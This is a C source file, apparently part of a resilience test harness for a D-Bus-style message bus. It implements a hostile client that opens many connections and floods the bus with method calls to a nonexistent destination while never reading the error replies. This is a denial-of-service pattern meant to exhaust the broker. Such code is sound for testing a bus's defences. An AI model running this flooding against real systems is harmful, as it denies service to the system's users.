/* SPDX-License-Identifier: MIT */
#include "attack.h"

#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

#define CALLS 100
#define PAUSE_US 100

/* Writes as much as the socket accepts, and reads nothing. */
static void push(struct connection *c, const struct buffer *out)
{
    size_t done = 0;
    for (ssize_t n; done < out->size; done += (size_t)n) {
        n = send(c->fd, out->data + done, out->size - done, MSG_NOSIGNAL | MSG_DONTWAIT);
        if (n > 0)
            continue;
        if (done) /* the remainder of a message would never be sent */
            hostile_reconnect(c, connection_open);
        else
            usleep(PAUSE_US);
        return;
    }
    atomic_fetch_add(&shared->harm, CALLS);
}

/* --count connections call names without an owner, and never read the errors. */
void unread_errors(void *argument)
{
    int n = attack_options.count;
    struct connection *all = calloc((size_t)n, sizeof(*all));
    struct buffer out = {0};
    (void)argument;
    if (!all)
        die("out of memory");
    for (int i = 0; i < CALLS; i++)
        put_message(&out,
                    &(struct header){.type = CALL,
                                     .path = ATTACK_PATH,
                                     .interface = ATTACK_INTERFACE,
                                     .member = "Call",
                                     .destination = "org.example.Absent"},
                    NULL);
    hostile_set_uid();
    for (int i = 0; i < n; i++)
        attack_join(&all[i]);
    process_ready();
    for (int i = 0;; i = (i + 1) % n)
        push(&all[i], &out);
}
